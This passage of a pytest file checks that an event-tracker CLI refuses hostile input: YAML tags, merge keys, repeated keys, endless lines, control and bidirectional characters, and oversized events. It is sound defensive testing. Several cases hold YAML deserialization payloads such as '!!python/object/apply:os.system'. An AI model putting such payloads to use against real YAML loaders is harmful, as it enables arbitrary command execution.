"""Hostile input (issue 11, cases 10-16): what an attacker or a careless curator can put in
an event file is refused with one line naming the file, line, field and what is accepted,
and nothing is written; what is accepted is stored, shown and exported as given.

The limits are made small here through the environment (`InputLimits`), so that the
cases of gigabytes run in CI; docs/reliability.md has the figures at full size.
"""

import copy
import csv
import io
import json
import os
import re
import sqlite3
import subprocess
import threading
import typing
from enum import Enum
from pathlib import Path

import pytest
from click.testing import CliRunner
from pydantic import BaseModel
from ruamel.yaml import YAML

from tracker.cli import cli
from tracker.errors import format_path
from tracker.files.readers import InputLimits
from tracker.schema.eventfile import EventFile, event_size, largest_event_size

from conftest import MINIMAL_EVENT, refused, walk
from served import TRACKER

TEMPLATE = """\
format: 2
{line}
id: by-2025-09-11
type: release
dates: [{{step: released, date: 2025-09-11}}]
transfers:
  - from: BY
    how: stayed
    status: carried_out
    {transfer}
sources:
  - id: article
    title: Belarus frees 52 political prisoners
"""
LINE, TRANSFER_LINE = 2, 10


def event_yaml(line: str = "title: T", transfer: str = "") -> str:
    """A YAML event with `line` among its fields and `transfer` among its transfer's."""
    return TEMPLATE.format(line=line, transfer=transfer)


TAGS_ACCEPTED = "accepted: plain values without tags (text, numbers, true/false, null, lists and mappings)"


def write(path: Path, content: str | bytes) -> Path:
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


def invoke(*args, env: dict | None = None):
    return CliRunner().invoke(cli, [str(arg) for arg in args], env=env)


# ---------------------------------------------------------------- 10. YAML tags and merges


@pytest.mark.parametrize("line, field, tag", [
    ("title: !foo [a]", "title", "!foo"),
    ("title: !!python/object/apply:os.system ['true']", "title", "!!python/object/apply:os.system"),
    ("title: !!python/name:os.system ''", "title", "!!python/name:os.system"),
    ("title: !!str Belarus frees 52", "title", "!!str"),
    ("title: !!binary aGVsbG8=", "title", "!!binary"),
    ("title: ! Belarus frees 52", "title", "!"),
])
def test_any_explicit_yaml_tag_is_refused_at_its_field_and_line(one_event_db, tmp_path, line, field, tag):
    path = write(tmp_path / "tagged.yml", event_yaml(line))
    [problem] = refused(one_event_db, "ingest", path)
    assert problem == f"{path}:{LINE}: {field}: the YAML tag {tag!r}; {TAGS_ACCEPTED}"


@pytest.mark.parametrize("transfer, field, tag", [
    ("count: !!int '52'", "count", "!!int"),
    ("nationalities: !!seq [{country: LT}]", "nationalities", "!!seq"),
    ("nationalities: [!!map {country: LT}]", "nationalities[0]", "!!map"),
    ("people: [{name: !!set {a, b}}]", "people[0].name", "!!set"),
    ("people: [{name: Ihar Losik, aliases: [!custom x]}]", "people[0].aliases[0]", "!custom"),
])
def test_an_explicit_yaml_tag_deep_in_an_event_is_refused_at_its_field_and_line(
        one_event_db, tmp_path, transfer, field, tag):
    path = write(tmp_path / "tagged.yml", event_yaml(transfer=transfer))
    [problem] = refused(one_event_db, "ingest", path)
    assert problem == (f"{path}:{TRANSFER_LINE}: transfers[0].{field}: the YAML tag {tag!r}; "
                       f"{TAGS_ACCEPTED}")


def test_a_tag_on_a_key_or_declared_by_a_directive_is_refused_too(one_event_db, tmp_path):
    on_key = write(tmp_path / "key.yml", event_yaml("!!str title: Belarus frees 52"))
    directive = write(tmp_path / "directive.yml", "%TAG !e! tag:example.com,2000:\n---\n"
                      + event_yaml("title: !e!headline Belarus frees 52"))
    assert refused(one_event_db, "ingest", on_key, directive) == [
        f"{on_key}:2: the YAML tag '!!str'; {TAGS_ACCEPTED}",
        f"{directive}:4: title: the YAML tag '!e!headline'; {TAGS_ACCEPTED}",
    ]


@pytest.mark.parametrize("content, line, field", [
    (event_yaml("<<: {title: Belarus frees 52}"), 2, "<<"),
    (event_yaml() + "  - <<: {id: other}\n", 14, "sources[1].<<"),
    ("- &base\n  " + event_yaml().replace("\n", "\n  ")
     + "\n- <<: *base\n  id: by-2025-09-12\n", 16, "[1].<<"),
    (event_yaml(transfer="people:\n      - <<: [{name: A}, {aliases: [B]}]"), 11,
     "transfers[0].people[0].<<"),
])
def test_a_merge_key_is_refused_wherever_it_is(one_event_db, tmp_path, content, line, field):
    path = write(tmp_path / "merged.yml", content)
    [problem] = refused(one_event_db, "validate", path)
    assert problem == f"{path}:{line}: {field}: a YAML merge key; accepted: every field written out"


def test_the_merge_sign_as_a_value_is_only_text(db_path, tmp_path):
    path = write(tmp_path / "sign.yml", event_yaml("title: <<"))
    assert invoke("--db", db_path, "ingest", path).exit_code == 0
    assert sqlite3.connect(db_path).execute("SELECT title FROM events").fetchall() == [("<<",)]


@pytest.mark.parametrize("written", ["1_000", "+52", "0x34", "0o64", "0b110100"])
def test_a_yaml_count_is_written_in_digits(one_event_db, tmp_path, written):
    """`3_5` would be 35 as `"3,5"` was in CSV; a count is digits alone in every format."""
    path = write(tmp_path / "count.yml", event_yaml(transfer=f"count: {written}"))
    [problem] = refused(one_event_db, "ingest", path)
    assert problem == (f"{path}:{TRANSFER_LINE}: transfers[0].count: {written!r} is not a whole "
                       "number in digits; "
                       "accepted: digits only, such as 1300 (no separators, signs or prefixes)")


def test_yaml_1_1_which_reads_052_as_42_and_yes_as_true_is_refused(one_event_db, tmp_path):
    path = write(tmp_path / "old.yml", "%YAML 1.1\n---\n" + event_yaml(
        transfer="count: 052\n    people: [{name: A, withheld: yes}]"))
    [problem] = refused(one_event_db, "ingest", path)
    assert problem == f"{path}:2: the directive %YAML 1.1; accepted: YAML 1.2, which needs no directive"
    version_1_2 = write(tmp_path / "new.yml", "%YAML 1.2\n---\n" + event_yaml())
    assert invoke("validate", version_1_2).exit_code == 0


def test_hostile_yaml_never_gives_a_traceback_from_a_real_process(one_event_db, tmp_path):
    files = [write(tmp_path / f"{index}.yml", event_yaml(line)) for index, line in
             enumerate(["title: !foo [a]", "<<: {title: T}", "title: !!python/object:x {}"])]
    result = subprocess.run([str(TRACKER), "--db", str(one_event_db), "ingest", *map(str, files)],
                            capture_output=True, text=True)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert result.stderr.strip().splitlines()[-1] == "Error: 3 problems found; nothing was written."


# ---------------------------------------------------------------- 11. keys given twice


REPEATED = "given twice in one mapping"


def test_an_id_given_twice_cannot_replace_a_curated_event_with_a_stub(one_event_db, tmp_path):
    """The attack of the issue: the last `id` won, and a stub replaced the event."""
    stub = '{"format": 2, "id": "xx-1", "title": "stub", "type": "other", ' \
           '"dates": [{"step": "released", "date": "2025"}], "transfers": [{"from": "BY", ' \
           '"how": "stayed", "status": "carried_out"}], "sources": [{"id": "s"}], ' \
           '"id": "by-2025-09-11"}'
    for name in ("stub.ndjson", "stub.json"):
        path = write(tmp_path / name, stub + "\n")
        [problem] = refused(one_event_db, "ingest", path)
        assert problem == f"{path}:1: id: {REPEATED}; accepted: each key once" or problem == (
            f"{path}:1: id: {REPEATED} (first at line 1); accepted: each key once")


@pytest.mark.parametrize("fmt", ["json", "ndjson", "yaml"])
@pytest.mark.parametrize("where, field", [
    (("transfers", 0, "count"), "transfers[0].count"),
    (("transfers", 0, "nationalities", 1, "count"), "transfers[0].nationalities[1].count"),
    (("sources", 0, "title"), "sources[0].title"),
    (("concessions", 0, "beneficiaries", 0, "name"), "concessions[0].beneficiaries[0].name"),
])
def test_a_key_given_twice_is_refused_in_every_format(one_event_db, tmp_path, fmt, where, field):
    event = copy.deepcopy(MINIMAL_EVENT)
    *parents, key = where
    container = event
    for part in parents:
        container = container[part]
    # The key is written a second time, right after the first, with another value.
    marker = "REPEAT-ME"
    container[key] = marker
    compact = fmt == "ndjson"
    text = json.dumps(event, indent=None if compact else 2, ensure_ascii=False)
    first = f'"{key}": "{marker}"'
    text = text.replace(first, f'"{key}": 7,{"" if compact else chr(10)} "{key}": 8')
    path = write(tmp_path / f"twice.{'yml' if fmt == 'yaml' else fmt}", text + "\n")
    [problem] = refused(one_event_db, "ingest", path)
    assert re.fullmatch(
        rf"{re.escape(str(path))}:(\d+): {re.escape(field)}: {REPEATED}"
        rf"( \(first at line \d+\))?; accepted: each key once", problem), problem
    line = int(problem.split(":")[1])
    assert line == (1 if compact else 1 + text[: text.index(f'"{key}": 8')].count("\n"))


def test_a_key_given_twice_is_found_even_where_yaml_cannot_read_the_json(one_event_db, tmp_path):
    """JSON may have a key longer than YAML reads (1,024 characters): the field is still
    named, without its line."""
    text = json.dumps(dict(MINIMAL_EVENT, notes="a", **{"k" * 1100: 1}), indent=2).replace(
        '"notes": "a"', '"notes": "a",\n  "notes": "b"')
    path = write(tmp_path / "long-key.json", text)
    [problem] = refused(one_event_db, "ingest", path)
    assert problem == f"{path}: notes: {REPEATED}; accepted: each key once"


# ---------------------------------------------------------------- 12. a huge line


def test_a_line_longer_than_the_limit_is_refused_without_reading_the_rest(tmp_path):
    """A pipe that never ends the line: the refusal comes after the limit's bytes."""
    limit = 64 * 1024
    fifo = tmp_path / "endless.ndjson"
    os.mkfifo(fifo)
    env = dict(os.environ, **{InputLimits.FILE_VARIABLE: str(limit)})
    process = subprocess.Popen([str(TRACKER), "validate", str(fifo)], env=env,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    stop = threading.Event()

    def feed():
        # Keeps the line open until the test ends; a reader that waited for its newline
        # (or for the end of the file) would wait for ever.
        with open(fifo, "wb", buffering=0) as pipe:
            try:
                pipe.write(b'{"summary": "' + b"x" * (limit + 1))
                while not stop.wait(0.05):
                    pipe.write(b"x" * 4096)
            except BrokenPipeError:
                pass  # the reader has gone, as it should

    writer = threading.Thread(target=feed, daemon=True)
    writer.start()
    try:
        out, err = process.communicate(timeout=60)
    finally:
        stop.set()
        process.kill()
    writer.join(timeout=10)
    assert process.returncode == 1
    assert err.strip().splitlines() == [
        f"{fifo}:1: line is longer than {limit:,} bytes (the most read at once, "
        "$TRACKER_MAX_FILE_BYTES), so the file was not read further; accepted: one event a "
        "line, each at most 4,194,304 bytes ($TRACKER_MAX_EVENT_BYTES)",
        "Error: 1 problem found; nothing was written.",
    ]


def test_a_file_that_is_one_huge_line_is_not_called_empty(one_event_db, tmp_path):
    limit = 64 * 1024
    path = tmp_path / "one-line.ndjson"
    with path.open("wb") as handle:
        for _ in range(80):  # 5 MB without a newline
            handle.write(b"x" * 65536)
    [problem] = refused(one_event_db, "ingest", path, env={InputLimits.FILE_VARIABLE: str(limit)})
    assert problem.startswith(f"{path}:1: line is longer than {limit:,} bytes")
    assert "empty" not in problem


def test_the_lines_before_a_huge_one_are_checked_and_the_rest_not_read(one_event_db, tmp_path):
    limit = 64 * 1024
    bad_first = json.dumps(dict(MINIMAL_EVENT, id="not a slug"))
    path = write(tmp_path / "mixed.ndjson", "\n".join(
        [bad_first, "x" * (limit + 1), "not json either"]) + "\n")
    problems = refused(one_event_db, "ingest", path, env={InputLimits.FILE_VARIABLE: str(limit)})
    assert [problem.split(": ")[0] for problem in problems] == [f"{path}:1", f"{path}:2"]


# ---------------------------------------------------------------- 13 and 14. text


# Every field of the event file, references both as text and as mappings; the second
# source is referred to by its id alone (MINIMAL_EVENT's, already in the database), and
# the event is part of MINIMAL_EVENT's.
FULL_EVENT = {
    "format": 2, "id": "by-2025-09-12", "title": "Belarus frees 52", "summary": "Belarus freed 52.",
    "type": "release", "track": "us-belarus-2025", "part_of": "by-2025-09-11",
    "notes": "Sources differ.",
    "dates": [{"step": "released", "date": "2025-09-12", "note": "At dawn.",
               "sources": ["article", "report"]}],
    "transfers": [
        {"from": "BY", "to": "LT", "how": "handed_over", "status": "carried_out",
         "date": "2025-09-12", "count": "at least 52", "political": "all", "foreign": "about 14",
         "nationalities": [{"country": "LT", "count": "6-7", "sources": ["report"]}],
         "people": [{"id": "mikalai-statkevich", "name": "Mikalai Statkevich",
                     "aliases": ["Statkevich"], "nationalities": ["BY"], "withheld": False,
                     "note": "A former candidate.", "sources": ["report"]}],
         "note": "At the border.", "sources": ["article", "report"]},
        {"held_by": "Viasna", "how": "stayed", "status": "reversed", "sources": ["report"]},
        {"held_by": {"id": "wagner", "name": "Wagner", "kind": "organisation", "country": "RU",
                     "aliases": ["PMC Wagner"]},
         "how": "expelled", "to": "LT", "status": "announced", "sources": ["report"]},
    ],
    "actors": [
        {"id": "john-coale", "name": "John Coale", "kind": "person", "country": "US",
         "aliases": ["John Cole"], "role": "delegation_head", "description": "Led it.",
         "sources": ["report"]},
        {"name": "Viasna", "kind": "organisation", "role": "other", "sources": ["report"]},
    ],
    "concessions": [
        {"kind": "sanctions_relief", "granted_by": ["John Coale"], "beneficiaries": ["BY"],
         "description": "Sanctions lifted.", "status": "announced", "disputed": True,
         "dispute": "Denied by some.",
         "disputed_by": [{"statement": "welcome"}, {"source": "article"}], "sources": ["report"]},
        {"kind": "other", "description": "Talks.", "status": "promised",
         "granted_by": [{"id": "usa", "name": "US government", "kind": "state", "country": "US",
                         "aliases": ["Washington"]}],
         "beneficiaries": [{"id": "belaruskali", "name": "Belaruskali", "kind": "organisation",
                            "country": "BY", "aliases": ["Belarusian Potash"]}],
         "sources": ["report"]},
    ],
    "statements": [
        {"key": "welcome", "by": "John Coale", "gist": "Welcomed it.", "platform": "X",
         "stance": "welcomed", "date": "2025-09-12", "sources": ["report"]},
        {"by": {"id": "gitanas-nauseda", "name": "Gitanas Nauseda", "kind": "person",
                "country": "LT", "aliases": ["Nauseda"]},
         "gist": "Confirmed it.", "stance": "confirmed", "sources": ["report"]},
    ],
    "prisoner_counts": [
        {"country": "BY", "as_of": "2025-09", "count": "about 1300", "according_to": "John Coale",
         "attribution": "a US official", "sources": ["report"]},
        {"country": "BY", "as_of": "2025", "count": 1000, "sources": ["report"],
         "according_to": {"id": "viasna-centre", "name": "Viasna Centre", "kind": "organisation",
                          "country": "BY", "aliases": ["Viasna Human Rights Centre"]}},
    ],
    "claims": [{"about": "transfers[0].status", "value": "carried_out", "sources": ["report"],
                "chosen": True, "reason": "An official's word."}],
    "sources": [{"id": "report", "title": "Belarus frees 52", "publisher": "Example News",
                 "url": "https://example.org/52", "published": "2025-09-12", "language": "en",
                 "note": "Wire copy."},
                "article"],
}
FREE_TEXT = {"title", "summary", "notes", "name", "aliases", "note", "description", "dispute",
             "gist", "platform", "value", "attribution", "publisher", "url", "reason",
             "held_by", "granted_by", "beneficiaries", "by", "according_to"}


def is_free_text(loc: tuple) -> bool:
    return [part for part in loc if isinstance(part, str)][-1] in FREE_TEXT


def text_leaves(document):
    """(path, text) of every text value of a document."""
    return [(loc, value) for loc, value in walk(document) if isinstance(value, str)]


def model_text_fields(annotation, loc=()):
    """The path (without positions) of every field of the event file's models that a file
    gives as text: free text, ids, dates, countries and choices, and the values that may
    be text (counts such as "about 14", a claim's value)."""
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        for name, info in annotation.model_fields.items():
            yield from model_text_fields(info.annotation, loc + (info.alias or name,))
    elif annotation in (str, typing.Any) or isinstance(annotation, type) and issubclass(annotation, Enum):
        yield loc
    else:
        for argument in typing.get_args(annotation):
            yield from model_text_fields(argument, loc)


def test_the_full_event_is_valid_and_has_every_text_field_of_the_format(tmp_path, one_event_db):
    covered = {tuple(part for part in loc if isinstance(part, str)) for loc, _ in text_leaves(FULL_EVENT)}
    assert covered == set(model_text_fields(EventFile))
    path = write(tmp_path / "full.json", json.dumps(FULL_EVENT))
    result = invoke("--db", one_event_db, "ingest", path)
    assert result.exit_code == 0, result.output


def formatted(name: str, fmt: str, event: dict) -> tuple[str, str]:
    if fmt == "yaml":
        buffer = io.StringIO()
        YAML().dump(event, buffer)
        return f"{name}.yml", buffer.getvalue()
    return f"{name}.{fmt}", json.dumps(event, ensure_ascii=False, indent=None if fmt == "ndjson" else 2)


def with_text(loc: tuple, change, event: dict = FULL_EVENT) -> dict:
    event = copy.deepcopy(event)
    *parents, key = loc
    container = event
    for part in parents:
        container = container[part]
    container[key] = change(container[key])
    return event


def refused_per_file(database: Path, files: dict[tuple, Path]) -> dict[tuple, list[str]]:
    """Ingest all files at once; the problem lines of each, by its key."""
    lines = refused(database, "ingest", *files.values())
    found = {key: [line[len(str(path)):] for line in lines if line.startswith(f"{path}:")]
             for key, path in files.items()}
    assert sum(map(len, found.values())) == len(lines)
    return found


@pytest.mark.parametrize("fmt", ["json", "ndjson", "yaml"])
def test_nul_is_refused_in_every_text_field_of_every_format(one_event_db, tmp_path, fmt):
    """Through an escape (`\\u0000` in JSON, `\\0` in YAML): one problem at its field."""
    files = {}
    for number, (loc, _) in enumerate(text_leaves(FULL_EVENT)):
        name, content = formatted(f"nul-{number}", fmt, with_text(loc, lambda t: t[:1] + "\0" + t[1:]))
        files[loc] = write(tmp_path / name, content)
    for loc, lines in refused_per_file(one_event_db, files).items():
        assert len(lines) == 1 and f": {format_path(loc)}: " in lines[0], (loc, lines)
        if is_free_text(loc):
            assert "is U+0000 (a control character); accepted:" in lines[0], lines


@pytest.mark.parametrize("fmt", ["json", "ndjson", "yaml"])
def test_text_of_spaces_alone_is_refused_in_every_text_field_of_every_format(one_event_db, tmp_path, fmt):
    blank = " \u00a0\u3000\u200b"
    files = {}
    for number, (loc, _) in enumerate(text_leaves(FULL_EVENT)):
        name, content = formatted(f"blank-{number}", fmt, with_text(loc, lambda _: blank))
        files[loc] = write(tmp_path / name, content)
    for loc, lines in refused_per_file(one_event_db, files).items():
        assert len(lines) == 1 and f": {format_path(loc)}: " in lines[0], (loc, lines)
        if is_free_text(loc):
            assert lines[0].endswith(": only whitespace or invisible characters; accepted: text "
                                     "with a visible character (leave an optional field out when "
                                     "unknown)"), lines


PERSON = ("transfers", 0, "people", 0)
LINE_FIELDS = [("title",), PERSON + ("name",), PERSON + ("aliases", 0),
               ("actors", 0, "name"), ("statements", 0, "platform"), ("claims", 0, "value"),
               ("prisoner_counts", 0, "attribution"), ("sources", 0, "title"),
               ("sources", 0, "publisher"), ("concessions", 0, "granted_by", 0),
               ("transfers", 1, "held_by")]
PROSE_FIELDS = [("summary",), ("notes",), ("dates", 0, "note"), ("transfers", 0, "note"),
                PERSON + ("note",), ("actors", 0, "description"),
                ("concessions", 0, "description"), ("concessions", 0, "dispute"),
                ("statements", 0, "gist"), ("claims", 0, "reason"), ("sources", 0, "note")]
REFUSED_EVERYWHERE = ["\x00", "\x07", "\x1b", "\x7f", "\x85", "\x9b"]
REFUSED_IN_A_LINE = ["\t", "\n", "\r", "\u2028", "\u2029", "\u202e", "\u202a", "\u2066"]


def test_which_characters_a_line_and_prose_refuse(one_event_db, tmp_path):
    files = {}
    for fields, characters in ((LINE_FIELDS, REFUSED_EVERYWHERE + REFUSED_IN_A_LINE),
                               (PROSE_FIELDS, REFUSED_EVERYWHERE)):
        for loc in fields:
            for char in characters:
                event = with_text(loc, lambda text: f"{text[:2]}{char}{text[2:]}")
                files[loc, char] = write(tmp_path / f"{len(files)}.json", json.dumps(event))
    accepted = {"line": "one line of text, without control characters, line breaks or "
                        "bidirectional controls",
                "prose": "text whose only control characters are tabs and line breaks"}
    for (loc, char), lines in refused_per_file(one_event_db, files).items():
        [line] = lines
        position = min(2, len(dict(text_leaves(FULL_EVENT))[loc])) + 1
        kind = "line" if loc in LINE_FIELDS else "prose"
        assert re.fullmatch(rf":\d+: {re.escape(format_path(loc))}: character {position} is "
                            rf"U\+{ord(char):04X} \([^)]+\); accepted: {accepted[kind]}", line), line


def test_prose_keeps_tabs_line_breaks_and_bidirectional_controls_byte_for_byte(tmp_path, one_event_db):
    prose = "a\tb\r\nc\rd\ne\u2028f\u2029g \u202bעברית\u202c h \u2067ي\u2069"
    event = FULL_EVENT
    for loc in PROSE_FIELDS:
        event = with_text(loc, lambda _: prose, event)
    first, again = one_event_db, tmp_path / "again.db"
    assert invoke("--db", first, "ingest", write(tmp_path / "e.json", json.dumps(event))).exit_code == 0
    for fmt in ("json", "ndjson", "yaml"):
        exported = tmp_path / f"export.{'yml' if fmt == 'yaml' else fmt}"
        assert invoke("--db", first, "export", "events", "-o", exported).exit_code == 0
        again.unlink(missing_ok=True)
        assert invoke("--db", again, "ingest", exported).exit_code == 0
        second = tmp_path / f"second{exported.suffix}"
        assert invoke("--db", again, "export", "events", "-o", second).exit_code == 0
        assert second.read_bytes() == exported.read_bytes()
        conn = sqlite3.connect(again)
        full = (FULL_EVENT["id"],)
        assert conn.execute("SELECT summary, notes FROM events WHERE id = ?", full).fetchone() == (
            prose, prose)
        assert conn.execute("SELECT gist FROM statements WHERE event_id = ? AND position = 0",
                            full).fetchone() == (prose,)
        conn.close()


def test_a_made_up_key_with_control_characters_is_shown_escaped_on_one_line(one_event_db, tmp_path):
    path = write(tmp_path / "keys.ndjson", json.dumps(dict(MINIMAL_EVENT, **{"no\ntes": 1, "ti\0tle": 2})))
    problems = refused(one_event_db, "ingest", path)
    assert [problem.split(": unknown field")[0] for problem in problems] == [
        f"{path}:1: 'no\\ntes'", f"{path}:1: 'ti\\x00tle'"]


def test_check_reports_a_nul_stored_before_it_was_refused(one_event_db):
    conn = sqlite3.connect(one_event_db)
    conn.execute("UPDATE events SET title = 'Belarus' || char(0) || ' frees 52'")
    conn.commit()
    conn.close()
    result = invoke("--db", one_event_db, "check")
    assert result.exit_code == 1
    assert (f"{one_event_db}: events[by-2025-09-11].title: character 8 is U+0000 (a control "
            "character)") in result.output


def csv_text(rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue()


CSV_HEADER = ["format", "id", "title", "type", "date", "from", "how", "status", "count",
              "foreign", "nationalities", "source_id"]


def csv_row(day: int, total: str = "", foreign: str = "", count: str = "1") -> list[str]:
    return ["2", f"by-2024-12-{day:02d}", "Lukashenko pardons 29", "pardon", f"2024-12-{day:02d}",
            "BY", "stayed", "carried_out", total, foreign, f"LT:{count}", "babel"]


@pytest.mark.parametrize("written", ["3,5", "1 300", "1_300", "+3", "-3", "3.0", "3e2", "٣", "３",
                                     "0x10", "three"])
def test_a_csv_count_is_digits_only_in_every_count_cell(one_event_db, tmp_path, written):
    path = write(tmp_path / "counts.csv", csv_text([
        CSV_HEADER, csv_row(9, total=written), csv_row(10, foreign=written),
        csv_row(11, count=written)]))
    problems = refused(one_event_db, "ingest", path)
    assert len(problems) == 3, problems
    for problem, line, field in zip(problems, (2, 3, 4), (
            "count", "foreign", "nationalities[0].count")):
        assert problem.startswith(f"{path}:{line}: transfers[0].{field}: {written!r} is not a count; ")
        assert "accepted: a whole number (52), 'about 6000'" in problem, problem


CSV_TEXT = {"title": "title", "summary": "summary", "notes": "notes",
            "source_title": "sources[0].title", "source_publisher": "sources[0].publisher",
            "source_url": "sources[0].url", "people": "transfers[0].people[0].name",
            "actors": "actors[0].name"}
CSV_VALID = {"title": "Lukashenko pardons 29", "summary": "Freed 29.", "notes": "One source.",
             "source_title": "29 freed", "source_publisher": "babel.ua",
             "source_url": "https://babel.ua/x", "people": "A Person",
             "actors": "mediator:state:Qatar"}


def csv_with_each_cell(bad: str, columns) -> str:
    """One row for each column, with `bad` in that column's text."""
    header = ["format", "id", "type", "date", "from", "how", "status", "source_id", *CSV_VALID]
    rows = [header]
    for day, column in enumerate(columns, start=1):
        cells = dict(CSV_VALID)
        cells[column] = f"mediator:state:{bad}" if column == "actors" else bad
        rows.append(["2", f"by-2024-12-{day:02d}", "pardon", "2024-12-09", "BY", "stayed",
                     "carried_out", "babel", *cells.values()])
    return csv_text(rows)


def test_a_csv_cell_of_spaces_alone_is_refused_not_read_as_empty(one_event_db, tmp_path):
    """In the cells of lists (people, actors) an item of spaces is skipped, like an empty one."""
    columns = ["title", "summary", "notes", "source_title", "source_publisher"]
    path = write(tmp_path / "spaces.csv", csv_with_each_cell(" \u00a0 ", columns))
    problems = refused(one_event_db, "ingest", path)
    assert problems == [f"{path}:{line}: {CSV_TEXT[column]}: only whitespace or invisible "
                        "characters; accepted: text with a visible character (leave an optional "
                        "field out when unknown)" for line, column in enumerate(columns, start=2)]


def test_a_control_character_in_any_csv_text_cell_is_refused(one_event_db, tmp_path):
    path = write(tmp_path / "escape.csv", csv_with_each_cell("a\x1bb", list(CSV_TEXT)))
    problems = refused(one_event_db, "ingest", path)
    assert len(problems) == len(CSV_TEXT)
    for line, (column, problem) in enumerate(zip(CSV_TEXT, problems), start=2):
        assert problem.startswith(f"{path}:{line}: {CSV_TEXT[column]}: character 2 is U+001B "
                                  "(a control character); accepted: "), problem


def test_a_raw_nul_byte_in_csv_is_binary_data(one_event_db, tmp_path):
    path = write(tmp_path / "nul.csv", csv_text([CSV_HEADER, csv_row(9)]).replace(
        "pardons", "par\0dons").encode())
    [problem] = refused(one_event_db, "ingest", path)
    assert problem == f"{path}: binary data (NUL bytes); accepted: UTF-8 text"


# ---------------------------------------------------------------- 15. one size limit


EVENT_LIMIT = 20_000
SMALL = {InputLimits.EVENT_VARIABLE: str(EVENT_LIMIT)}


def sized_files(tmp_path, summary: str) -> list[Path]:
    """The same event in every format."""
    event = dict(MINIMAL_EVENT, summary=summary)
    files = []
    for fmt in ("json", "ndjson", "yaml"):
        name, content = formatted(f"big-{fmt}", fmt, event)
        files.append(write(tmp_path / name, content))
    flat = {"format": "2", "id": event["id"], "title": event["title"], "summary": summary,
            "type": "release", "date_step": "released", "date": "2025-09-11", "from": "BY",
            "to": "LT", "how": "handed_over", "status": "carried_out", "count": "52",
            "political": "all", "foreign": "14", "nationalities": "Briton:1; LT:6",
            "people": "Syarhei Tsikhanouski",
            "actors": "mediator:state:United States; delegation_head:person:John Coale",
            "source_id": "article", "source_title": "Belarus frees 52",
            "source_published": "2025-09-11"}
    buffer = io.StringIO()
    csv.writer(buffer).writerows([list(flat), list(flat.values())])
    files.append(write(tmp_path / "big-csv.csv", buffer.getvalue()))
    return files


def test_an_event_above_the_limit_is_refused_in_every_format_at_the_same_size(one_event_db, tmp_path):
    files = sized_files(tmp_path, "x" * (EVENT_LIMIT + 1000))
    problems = refused(one_event_db, "ingest", *files, env=SMALL)
    assert len(problems) == len(files)
    sizes = set()
    for path, problem in zip(files, problems):
        found = re.fullmatch(
            rf"{re.escape(str(path))}:[12]: the event is ([\d,]+) bytes as compact JSON; accepted: "
            rf"at most {EVENT_LIMIT:,} bytes an event, in any format \(\$TRACKER_MAX_EVENT_BYTES\)",
            problem)
        assert found, problem
        sizes.add(found.group(1))
    # The CSV template cannot say everything the others say (aliases, concessions), but the
    # others agree.
    assert len(sizes - {problems[-1].split(" is ")[1].split(" ")[0]}) == 1


def test_the_default_event_limit_applies_to_json_as_to_ndjson(one_event_db, tmp_path):
    """The issue's case: 4 MB and more was accepted from JSON, not from its NDJSON export."""
    [path] = [p for p in sized_files(tmp_path, "x" * 4_200_000) if p.suffix == ".json"]
    [problem] = refused(one_event_db, "ingest", path)
    assert "accepted: at most 4,194,304 bytes an event, in any format" in problem


def test_an_event_at_the_limit_is_accepted_and_its_exports_read_back(tmp_path):
    """Exports spell out ids and write a reference out as the actor it stands for, so
    their lines are longer than the event as given; measured the same way, they are
    accepted again, in every format."""
    event = dict(MINIMAL_EVENT, summary="x" * (EVENT_LIMIT + 100))
    # A state referred to by its code is exported as an actor: id, name, kind, country.
    event["concessions"] = MINIMAL_EVENT["concessions"] + [
        {"kind": "other", "description": "d", "status": "announced", "granted_by": ["BY"],
         "beneficiaries": ["LT"]}] * 40
    path = write(tmp_path / "big.json", json.dumps(event))
    result = invoke("--db", tmp_path / "probe.db", "validate", path, env=SMALL)
    size = int(re.search(r"the event is ([\d,]+) bytes", result.output).group(1).replace(",", ""))
    event["summary"] = event["summary"][: len(event["summary"]) - (size - EVENT_LIMIT)]
    write(path, json.dumps(event))
    first = tmp_path / "first.db"
    assert invoke("--db", first, "ingest", path, env=SMALL).exit_code == 0
    for fmt in ("ndjson", "json", "yaml"):
        exported = tmp_path / f"exported.{'yml' if fmt == 'yaml' else fmt}"
        assert invoke("--db", first, "export", "events", "-o", exported).exit_code == 0
        if fmt == "ndjson":
            assert len(exported.read_bytes()) > EVENT_LIMIT  # longer than the event's measure
        again = tmp_path / f"again-{fmt}.db"
        result = invoke("--db", again, "ingest", exported, env=SMALL)
        assert result.exit_code == 0, result.output
        second = tmp_path / f"second.{exported.suffix}"
        assert invoke("--db", again, "export", "events", "-o", second).exit_code == 0
        assert second.read_bytes() == exported.read_bytes()


def test_each_event_of_a_list_is_measured_on_its_own(one_event_db, tmp_path):
    small = dict(MINIMAL_EVENT, id="by-2025-09-12")
    big = dict(MINIMAL_EVENT, id="by-2025-09-13", summary="x" * EVENT_LIMIT)
    path = write(tmp_path / "list.json", json.dumps([small, big], indent=2))
    [problem] = refused(one_event_db, "validate", path, env=SMALL)
    assert problem.startswith(f"{path}:") and ": [1]: the event is " in problem


# The smallest entry of each section, which validation fills out the most.
SMALLEST_TRANSFER = {"from": "BY", "how": "stayed", "status": "reversed"}
SMALLEST_ENTRIES = {
    ("dates",): {"step": "decided", "date": "2025"},
    ("transfers",): SMALLEST_TRANSFER,
    ("transfers", 0, "nationalities"): {"country": "LT"},
    ("transfers", 0, "people"): {"id": "a"},
    ("actors",): {"id": "a", "role": "host"},
    ("concessions",): {"kind": "other", "description": "d", "status": "denied"},
    ("statements",): {"gist": "g", "stance": "denied"},
    ("claims",): {"about": "freed", "value": 1},
    ("prisoner_counts",): {"country": "BY", "as_of": "2025", "count": 1},
    ("sources",): {"id": "a"},
}
SMALLEST_EVENT = {"format": 2, "id": "a", "title": "t", "type": "other",
                  "dates": [{"step": "decided", "date": "2025"}],
                  "transfers": [SMALLEST_TRANSFER], "sources": [{"id": "a"}]}


def compact(value) -> bytes:
    return json.dumps(value, ensure_ascii=False, separators=(",", ":")).encode()


@pytest.mark.parametrize("section", list(SMALLEST_ENTRIES), ids=format_path)
def test_json_text_grows_no_more_than_the_bound_that_spares_measuring_small_events(section):
    """Ingest measures an event only when its JSON text could make one above the limit;
    the bound must hold for the entries that grow the most, and for the event itself."""
